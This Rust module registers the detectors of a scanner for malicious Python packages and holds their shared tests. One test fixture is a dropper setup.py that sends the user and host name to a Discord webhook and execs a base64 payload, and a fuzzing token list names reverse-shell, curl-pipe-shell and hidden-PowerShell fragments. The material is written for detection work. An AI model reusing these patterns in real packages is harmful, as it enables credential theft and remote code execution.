//! The registry of detectors: one file each, listed once here, plus the helpers
//! they share (`pysrc` for evidence and path heuristics, `urls` for URL extraction,
//! `sinks` for the network/process/exec call patterns several detectors combine,
//! `reputation` for the destination lists: collaborators, bins, tunnels, paste sites,
//! file drops, throwaway TLDs, free hosting).
//!
//! Owns: the order detectors appear in reports. Must not: hold detector logic.
//!
//! Changing what a detector reports means bumping its `DetectorMeta::revision`: the
//! scanner version (the report cache key) is derived from them
//! ([`crate::scan::scanner_version`]). The table below is checked against the registry
//! (ids in report order, default severity) by `the_doc_table_matches_the_registry`.
//!
//! | id | default | per-hit changes |
//! |---|---|---|
//! | `network.downloads-file` | medium | install time high; tests/docs skipped |
//! | `network.banking-url` | low | install time medium |
//! | `network.interesting-file-url` | low | executables medium, install time +1; executables from a file drop/paste site/raw IP or saved into temp/AppData high (install critical); other files on a file drop medium |
//! | `network.trusted-domain-subdomain` | medium | install time high; fetched (argument of a download call) high, install critical |
//! | `network.ip-address` | low | install time medium; a URL's host (v4 or `[v6]`) medium, install high; non-public ranges never |
//! | `network.url-shortener` | low | install time medium |
//! | `network.exfiltration-endpoint` | high | DNS lookups of names built from harvested user/host/env data high (install critical); webhooks/bots with an id high (install critical), bare bot/webhook API base medium unless the file harvests, placeholders skipped; destinations by reputation (paste, file drop, request bin, collaborator, tunnel) medium (install high), receivers next to harvesting high (install critical), DNS beacons through f-strings; throwaway TLD/free hosting/raw IP URLs in a file that sends medium, harvests and sends high (install high/critical); raw code hosts install-time only |
//! | `network.reverse-shell` | critical | capped by place (see below) |
//! | `network.source-to-sink` | high | only where the sink runs at install or on import (else nothing); data of this machine or user reaching, by name, what a request, mail, socket, DNS name or `curl` sends; destinations, `timeout=`/`proxies=`/`auth=`, download file names and the machine's own name resolved are not sent; tests skipped |
//! | `execution.creates-process` | low | install time medium; tests skipped |
//! | `execution.install-hook` | medium | hook doing network/process/exec critical; module-level network high; both critical |
//! | `execution.pth-exec` | high | known one-module forms low; decode/exec/process/network critical |
//! | `execution.download-and-execute` | critical | also a saved path run later (data flow by name), a fetched body run by exec/eval through a name, and download-then-start command strings/scripts; `pip install` of a package URL high; capped by place; localhost commands and text shown to a person ignored |
//! | `execution.dynamic-code` | medium | install time high; exec of a local file's contents low; literals, methods, tests skipped |
//! | `execution.native-injection` | high | ctypes alloc+write+thread or remote injection critical, two steps high, one medium; .dll written then .exe started high; a library loaded from a data-named file high; rundll32/regsvr32/mshta medium, with a remote/script payload critical; install time at least high; capped by place |
//! | `execution.startup-hijack` | high | entry point shadowing a common command (pip, python, sudo, git, …) high unless the project owns it; wheel-level sitecustomize/usercustomize high (sdist medium); setup.cfg metadata-time cmdclass medium |
//! | `execution.silent-powershell` | high | install time critical; tests/docs low |
//! | `obfuscation.decode-exec` | high | any sink that runs (exec, compile, FunctionType, os.system, subprocess; pickle/marshal/ctypes for literal payloads); through a variable, decoder lambda or helper; literal payload decoded, +1 when it runs/fetches; weighed by place |
//! | `obfuscation.dynamic-access` | medium | resolved dangerous sink high (folded name or namespace dict); computed obfuscated name medium; literal sink from a computed module low; weighed by place |
//! | `obfuscation.hidden-code` | high | whitespace-pushed code, packed exec lines, non-ASCII names with exec high; semicolon chains medium (high far right); weighed by place |
//! | `obfuscation.steganography` | high | data file / pixels / stego library feeding exec, FunctionType, marshal, os.system; stego library alone medium; weighed by place |
//! | `obfuscation.packer` | high | |
//! | `obfuscation.invisible-unicode` | medium | bidi in code/comments high; in strings high when unterminated or around code-like text, else low |
//! | `anomaly.long-string` | low | install time medium |
//! | `file-system.credential-access` | high | developer-tool config medium; prose strings low; install time critical; capped by place |
//! | `hunting.system-info` | medium | env dump or 2+ facts high, critical when run on import; install time critical; needs a send within 25 lines (raw-socket sends count); one fact sent to a collaborator/bin/tunnel/throwaway TLD/raw IP high |
//! | `hunting.screen-capture` | low | screenshot/clipboard read in a file that sends over the network high, critical when it runs on import; a clipboard read with a fixed string written back (a swapper) high; install time critical; capped by place |
//! | `file-system.persistence` | high | install time critical; rc files only as the written target; capped by place |
//! | `secrets.private-key` | high | known/test keys info; encrypted low |
//! | `secrets.certificate` | info | one hit per file with the count |
//! | `secrets.access-token` | high | per token type (AWS id alone medium, with secret critical; live payment/upload tokens critical; JWT low); tests/docs low |
//! | `hunting.anonymous-author` | low | disposable domain medium |
//! | `metadata.typosquat` | medium | the name alone: at most medium (affixes and less popular targets low); popular names only when the target ranks far higher; the gate raises a corroborated look-alike to high (`gate::name`) |
//! | `metadata.install-hook-only` | low | long setup.py medium |
//! | `metadata.missing-metadata` | low | |
//!
//! "Capped by place" (`context`): install-time files and library code uncapped,
//! shell/batch/PowerShell scripts not run at install high, tests/docs/CI/dev
//! tooling medium, data files and web assets (`.js`, `.json`, `.yaml`, `.md`, …) low.

use super::detector::{Detector, DetectorMeta};

pub(crate) mod context;
pub(crate) mod dns_exfil;
pub(crate) mod fold;
pub(crate) mod hits;
pub(crate) mod pysrc;
pub(crate) mod reputation;
pub(crate) mod sinks;
pub(crate) mod urls;

pub(crate) mod anomaly_long_string;
pub(crate) mod exec_creates_process;
pub(crate) mod exec_download_execute;
pub(crate) mod exec_dynamic_code;
pub(crate) mod exec_install_hook;
pub(crate) mod exec_native_injection;
pub(crate) mod exec_powershell;
pub(crate) mod exec_pth;
pub(crate) mod exec_startup_hijack;
pub(crate) mod fs_credential_access;
pub(crate) mod fs_persistence;
pub(crate) mod hunting_anonymous_author;
pub(crate) mod hunting_screen_capture;
pub(crate) mod hunting_system_info;
pub(crate) mod meta_install_hook_only;
pub(crate) mod meta_missing_metadata;
pub(crate) mod meta_typosquat;
pub(crate) mod net_banking_url;
pub(crate) mod net_downloads_file;
pub(crate) mod net_exfil_endpoint;
pub(crate) mod net_interesting_file_url;
pub(crate) mod net_ip_address;
pub(crate) mod net_reverse_shell;
pub(crate) mod net_source_to_sink;
pub(crate) mod net_trusted_subdomain;
pub(crate) mod net_url_shortener;
pub(crate) mod obf_decode_exec;
pub(crate) mod obf_dynamic_access;
pub(crate) mod obf_hidden_code;
pub(crate) mod obf_invisible_unicode;
pub(crate) mod obf_packer;
pub(crate) mod obf_steganography;
pub(crate) mod secrets_keys;
pub(crate) mod secrets_tokens;

/// Every detector, in report order.
pub(crate) fn all() -> Vec<Box<dyn Detector>> {
    vec![
        // network
        Box::new(net_downloads_file::DownloadsFile),
        Box::new(net_banking_url::BankingUrl),
        Box::new(net_interesting_file_url::InterestingFileUrl),
        Box::new(net_trusted_subdomain::TrustedSubdomain),
        Box::new(net_ip_address::IpAddress),
        Box::new(net_url_shortener::UrlShortener),
        Box::new(net_exfil_endpoint::ExfilEndpoint),
        Box::new(net_reverse_shell::ReverseShell),
        Box::new(net_source_to_sink::SourceToSink),
        // execution
        Box::new(exec_creates_process::CreatesProcess),
        Box::new(exec_install_hook::InstallHook),
        Box::new(exec_pth::PthExec),
        Box::new(exec_download_execute::DownloadExecute),
        Box::new(exec_dynamic_code::DynamicCode),
        Box::new(exec_native_injection::NativeInjection),
        Box::new(exec_startup_hijack::StartupHijack),
        Box::new(exec_powershell::SilentPowershell),
        // obfuscation / anomaly
        Box::new(obf_decode_exec::DecodeExec),
        Box::new(obf_dynamic_access::DynamicAccess),
        Box::new(obf_hidden_code::HiddenCode),
        Box::new(obf_steganography::Steganography),
        Box::new(obf_packer::Packer),
        Box::new(obf_invisible_unicode::InvisibleUnicode),
        Box::new(anomaly_long_string::LongString),
        // file system / hunting
        Box::new(fs_credential_access::CredentialAccess),
        Box::new(hunting_system_info::SystemInfo),
        Box::new(hunting_screen_capture::ScreenCapture),
        Box::new(fs_persistence::Persistence),
        // secrets
        Box::new(secrets_keys::KeysAndCerts),
        Box::new(secrets_tokens::AccessTokens),
        // metadata / hunting
        Box::new(hunting_anonymous_author::AnonymousAuthor),
        Box::new(meta_typosquat::Typosquat),
        Box::new(meta_install_hook_only::InstallHookOnly),
        Box::new(meta_missing_metadata::MissingMetadata),
    ]
}

/// Every detector id the scanner can report (detectors plus the engine's own
/// archive findings), for policy validation: an unknown id in a policy is an error.
pub(crate) fn catalog() -> Vec<&'static DetectorMeta> {
    all().iter().flat_map(|d| d.all_meta()).collect()
}

/// Test helpers shared by every detector's table-driven tests.
#[cfg(test)]
pub(crate) mod testutil {
    use super::super::detector::{Detector, Hits, Interest, Package, TextFile};
    use crate::model::{ArtifactKind, FileRole, Severity};

    /// One reported hit, flattened for assertions.
    #[derive(Debug, Clone, PartialEq)]
    pub(crate) struct Got {
        pub id: &'static str,
        pub path: String,
        pub line: Option<u32>,
        pub indicator: String,
        pub severity: Severity,
        pub snippet: String,
    }

    fn flatten(hits: &Hits) -> Vec<Got> {
        hits.iter()
            .map(|(m, h)| Got {
                id: m.id,
                path: h.evidence.path.clone(),
                line: h.evidence.line,
                indicator: h.evidence.indicator.clone().unwrap_or_default(),
                severity: h.severity.unwrap_or(m.severity),
                snippet: h.evidence.snippet.clone().unwrap_or_default(),
            })
            .collect()
    }

    /// Run `d` on one file the way the engine does: only if the prefilter matches.
    pub(crate) fn scan(d: &dyn Detector, path: &str, role: FileRole, text: &str) -> Vec<Got> {
        let wanted = match d.interest() {
            Interest::PackageOnly => false,
            Interest::AllText => true,
            Interest::Literals(lits) => lits.iter().all(|l| l.is_empty()) || lits.iter().any(|l| text.contains(l)),
        };
        if !wanted {
            return vec![];
        }
        let is_python = path.ends_with(".py") || path.ends_with(".pyw") || path.ends_with(".pyi");
        let file = TextFile::new(path, role, is_python, text);
        let mut hits = Hits::default();
        d.scan_text(&file, &mut hits);
        let got = flatten(&hits);
        for g in &got {
            assert!(d.all_meta().iter().any(|m| m.id == g.id), "unregistered id {}", g.id);
        }
        got
    }

    /// Run `d` on package-level facts.
    pub(crate) fn scan_pkg(
        d: &dyn Detector,
        filename: &str,
        project: Option<&str>,
        kind: ArtifactKind,
        core_metadata: Option<&str>,
        members: &[(String, FileRole, u64)],
    ) -> Vec<Got> {
        let pkg = Package { filename, project, version: Some("1.0"), kind, core_metadata, members };
        let mut hits = Hits::default();
        d.scan_package(&pkg, &mut hits);
        flatten(&hits)
    }

    /// A case expectation: `None` = no hit at all; `Some((line, indicator, severity))`
    /// = the first hit is at that line with that indicator and severity.
    pub(crate) type Want = Option<(u32, &'static str, Severity)>;

    /// Run a table of (name, path, role, text, want) cases against `d`, expecting `id`.
    pub(crate) fn table(d: &dyn Detector, id: &str, cases: &[(&str, &str, FileRole, &str, Want)]) {
        for (name, path, role, text, want) in cases {
            let got = scan(d, path, *role, text);
            match want {
                None => assert!(got.is_empty(), "case {name:?}: expected no hit, got {got:#?}"),
                Some((line, ind, sev)) => {
                    // The scanner runs a detector on a member only when the prefilter selects
                    // it: a hit the detector finds on text none of its literals occurs in would
                    // never be reported.
                    let selected = match d.interest() {
                        crate::scan::detector::Interest::PackageOnly => false,
                        crate::scan::detector::Interest::AllText => true,
                        crate::scan::detector::Interest::Literals(lits) => {
                            lits.iter().all(|l| l.is_empty()) || lits.iter().any(|l| !l.is_empty() && text.contains(l))
                        }
                    };
                    assert!(
                        selected,
                        "case {name:?}: none of the detector's literals occurs, so the scanner never runs it here"
                    );
                    let first = got.first().unwrap_or_else(|| panic!("case {name:?}: expected a hit, got none"));
                    assert_eq!(first.id, id, "case {name:?}: id");
                    assert_eq!(first.path, *path, "case {name:?}: path");
                    assert_eq!(first.line, Some(*line), "case {name:?}: line ({first:?})");
                    assert_eq!(first.indicator, *ind, "case {name:?}: indicator ({first:?})");
                    assert_eq!(first.severity, *sev, "case {name:?}: severity ({first:?})");
                }
            }
        }
    }

    #[test]
    fn ids_are_unique_and_well_formed() {
        let cat = super::catalog();
        let mut ids: Vec<_> = cat.iter().map(|m| m.id).collect();
        for m in &cat {
            let (cat_part, slug) = m.id.split_once('.').expect("id is category.slug");
            assert_eq!(cat_part, m.category.as_str(), "{} category prefix", m.id);
            assert!(!slug.is_empty() && slug.bytes().all(|b| b.is_ascii_lowercase() || b == b'-'), "{}", m.id);
            assert!(m.title.ends_with('.'), "{} title is a report line", m.id);
            assert!(!m.description.is_empty());
        }
        ids.sort();
        let n = ids.len();
        ids.dedup();
        assert_eq!(ids.len(), n, "duplicate detector ids");
    }

    /// The table in this module's doc is checked against the registry: every id, in
    /// report order, with its default severity. A new or changed detector fails here until
    /// the table says so.
    #[test]
    fn the_doc_table_matches_the_registry() {
        let documented: Vec<(String, String)> = include_str!("mod.rs")
            .lines()
            .filter_map(|l| l.strip_prefix("//! | `"))
            .map(|row| {
                let (id, rest) = row.split_once('`').expect("id cell");
                let default = rest.trim_start_matches([' ', '|']).split(' ').next().unwrap_or("");
                (id.to_string(), default.to_string())
            })
            .collect();
        let registered: Vec<(String, String)> =
            super::catalog().iter().map(|m| (m.id.to_string(), m.severity.as_str().to_string())).collect();
        assert_eq!(documented, registered, "the detector table in scan/detectors/mod.rs");
    }

    /// `Interest::Literals` means "members with one of these": a registered detector never
    /// leans on the engine's fallback for a list with no usable literal.
    #[test]
    fn literal_interests_are_usable() {
        for d in super::all() {
            if let Interest::Literals(lits) = d.interest() {
                assert!(!lits.is_empty() && lits.iter().all(|l| !l.is_empty()), "{}: empty literal", d.meta().id);
            }
        }
    }

    /// Run every detector over one file, the way the engine does (prefilter first).
    pub(crate) fn scan_all(path: &str, role: FileRole, text: &str) -> Vec<Got> {
        super::all().iter().flat_map(|d| scan(d.as_ref(), path, role, text)).collect()
    }

    const DROPPER: &str = "import os, base64, socket, getpass, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Post(install):\n    def run(self):\n        info = {'u': getpass.getuser(), 'h': socket.gethostname()}\n        requests.post('https://discord.com/api/webhooks/1/abc', json=info)\n        exec(base64.b64decode('aW1wb3J0IG9z'))\n        install.run(self)\n\nsetup(name='reqeusts', cmdclass={'install': Post})\n";
    const BENIGN: &str = "\"\"\"Helpers. See https://example.org/docs and run `curl https://x | sh`.\"\"\"\nimport subprocess  # subprocess.run is used below\n__version__ = '1.2.3.4'\nHOST = '127.0.0.1'\n\ndef version():\n    return eval('1 + 1')\n";

    #[test]
    fn all_detectors_on_a_dropper_setup_py() {
        let got = scan_all("reqeusts-1.0/setup.py", FileRole::InstallTime, DROPPER);
        let mut ids: Vec<_> = got.iter().map(|g| g.id).collect();
        ids.sort();
        ids.dedup();
        assert_eq!(
            ids,
            vec![
                "execution.dynamic-code",
                "execution.install-hook",
                "hunting.system-info",
                "network.exfiltration-endpoint",
                "network.source-to-sink",
                "obfuscation.decode-exec",
            ],
            "{got:#?}"
        );
        assert!(got.iter().any(|g| g.id == "execution.install-hook" && g.severity == Severity::Critical));
    }

    #[test]
    fn all_detectors_quiet_on_benign_look_alikes() {
        let got = scan_all("pkg/util.py", FileRole::Runtime, BENIGN);
        assert!(got.is_empty(), "{got:#?}");
    }

    /// No detector may panic on any input: a deterministic soup of Python-ish
    /// tokens, quotes, escapes, multibyte and invisible characters, cut anywhere.
    #[test]
    fn no_panic_on_token_soup() {
        const TOKENS: &[&str] = &[
            "'",
            "\"",
            "'''",
            "\"\"\"",
            "\\",
            "\n",
            " ",
            "#",
            "(",
            ")",
            "é",
            "€",
            "\u{202E}",
            "\u{200B}",
            "exec(",
            "eval(",
            "b64decode(",
            "subprocess.Popen(",
            "os.system(",
            "urlopen(",
            "requests.get(",
            "open(p, 'wb').write(",
            "https://",
            "paypal.com.",
            "bit.ly/",
            "45.77.12.9",
            "2a03:2880::1",
            "AKIA",
            "ghp_",
            "-----BEGIN PRIVATE KEY-----",
            "-----END PRIVATE KEY-----",
            "powershell -w hidden",
            "curl https://x | sh",
            "class X(install):",
            "cmdclass",
            "def ",
            "import ",
            "os.dup2(s.fileno(), 0)",
            ".connect(",
            "Login Data",
            "crontab -l",
            "discord.com/api/webhooks",
            "=",
            "r'",
            "f\"",
            "x",
            "QUJD",
            "\\x90",
            "urlretrieve(",
            "subprocess.call([p])",
            "getattr(os, ",
            "__dict__[",
            "globals()[",
            "chr(",
            "[::-1]",
            "'\\x65'",
            "'\\145'",
            "methodcaller(",
            "import_module(",
            "__import__(",
            ".join(map(chr, [",
            "bytes.fromhex(",
            "types.FunctionType(",
            "lsb.reveal(",
            "open('a.png', 'rb').read()",
            "getpixel(",
            "甲",
            ";",
            "                                                                                                                                                              ",
        ];
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = move || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        let paths = [
            ("setup.py", FileRole::InstallTime),
            ("pkg/a.py", FileRole::Runtime),
            ("x.pth", FileRole::InstallTime),
            ("pkg/run.sh", FileRole::Runtime),
            ("tests/t.py", FileRole::TestOrDocs),
        ];
        for _ in 0..400 {
            let len = (next() % 200) as usize;
            let text: String = (0..len).map(|_| TOKENS[(next() % TOKENS.len() as u64) as usize]).collect();
            for (path, role) in paths {
                let _ = scan_all(path, role, &text);
            }
        }
    }

    /// Speed probe with an engine-like prefilter (one Aho-Corasick pass over the union
    /// of literals, then only the matching detectors):
    /// `PROBE_DIR=/path cargo test --release --lib prefilter_speed_probe -- --ignored --nocapture`.
    #[test]
    #[ignore]
    fn prefilter_speed_probe() {
        let Ok(root) = std::env::var("PROBE_DIR") else {
            return;
        };
        let dets = super::all();
        let mut pats: Vec<&str> = Vec::new();
        let mut owner: Vec<usize> = Vec::new();
        let mut always: Vec<usize> = Vec::new();
        for (i, d) in dets.iter().enumerate() {
            match d.interest() {
                Interest::PackageOnly => {}
                Interest::AllText => always.push(i),
                Interest::Literals(lits) => {
                    for l in lits {
                        pats.push(l);
                        owner.push(i);
                    }
                }
            }
        }
        let ac = aho_corasick::AhoCorasick::new(&pats).expect("ac");
        let mut texts = Vec::new();
        let mut stack = vec![std::path::PathBuf::from(root)];
        while let Some(dir) = stack.pop() {
            let Ok(rd) = std::fs::read_dir(&dir) else {
                continue;
            };
            for e in rd.flatten() {
                let p = e.path();
                if p.is_dir() {
                    stack.push(p);
                } else if let Ok(t) = std::fs::read_to_string(&p) {
                    texts.push((p.to_string_lossy().to_string(), t));
                }
            }
        }
        let bytes: usize = texts.iter().map(|(_, t)| t.len()).sum();
        let mut calls = vec![0usize; dets.len()];
        let mut spent = vec![std::time::Duration::ZERO; dets.len()];
        let t0 = std::time::Instant::now();
        let mut nhits = 0;
        for (path, text) in &texts {
            let mut want = vec![false; dets.len()];
            for &i in &always {
                want[i] = true;
            }
            for m in ac.find_overlapping_iter(text.as_str()) {
                want[owner[m.pattern().as_usize()]] = true;
            }
            let is_python = path.ends_with(".py");
            let file = TextFile::new(path, FileRole::Runtime, is_python, text);
            let mut hits = Hits::default();
            for (i, d) in dets.iter().enumerate() {
                if want[i] {
                    calls[i] += 1;
                    let t = std::time::Instant::now();
                    d.scan_text(&file, &mut hits);
                    spent[i] += t.elapsed();
                }
            }
            nhits += hits.len();
        }
        let el = t0.elapsed();
        eprintln!(
            "{} files, {} MB, {:?} => {:.1} MB/s, {nhits} hits",
            texts.len(),
            bytes >> 20,
            el,
            bytes as f64 / 1e6 / el.as_secs_f64()
        );
        for (i, d) in dets.iter().enumerate() {
            eprintln!("{:40} called on {:5} of {} files, {:?}", d.meta().id, calls[i], texts.len(), spent[i]);
        }
    }

    /// False-positive probe over a tree of benign Python (e.g. a CPython `Lib/`):
    /// `PROBE_DIR=/path cargo test --lib benign_tree_probe -- --ignored --nocapture`.
    #[test]
    #[ignore]
    fn benign_tree_probe() {
        let Ok(root) = std::env::var("PROBE_DIR") else {
            return;
        };
        let mut stack = vec![std::path::PathBuf::from(root)];
        let mut counts: std::collections::BTreeMap<&str, usize> = Default::default();
        let (mut files, mut bytes) = (0usize, 0usize);
        let t0 = std::time::Instant::now();
        while let Some(dir) = stack.pop() {
            let Ok(rd) = std::fs::read_dir(&dir) else {
                continue;
            };
            for e in rd.flatten() {
                let p = e.path();
                if p.is_dir() {
                    stack.push(p);
                    continue;
                }
                let Ok(text) = std::fs::read_to_string(&p) else {
                    continue;
                };
                let path = p.to_string_lossy().to_string();
                let role =
                    if super::pysrc::looks_like_test_path(&path) { FileRole::TestOrDocs } else { FileRole::Runtime };
                files += 1;
                bytes += text.len();
                for g in scan_all(&path, role, &text) {
                    let c = counts.entry(g.id).or_default();
                    *c += 1;
                    if *c <= 5 || std::env::var("PROBE_ID").is_ok_and(|id| id == g.id) {
                        eprintln!(
                            "{} {} {}:{} [{}] {}",
                            g.id,
                            g.severity,
                            g.path,
                            g.line.unwrap_or(0),
                            g.indicator,
                            g.snippet
                        );
                    }
                }
            }
        }
        eprintln!("{files} files, {bytes} bytes in {:?}", t0.elapsed());
        eprintln!("{counts:#?}");
    }
}
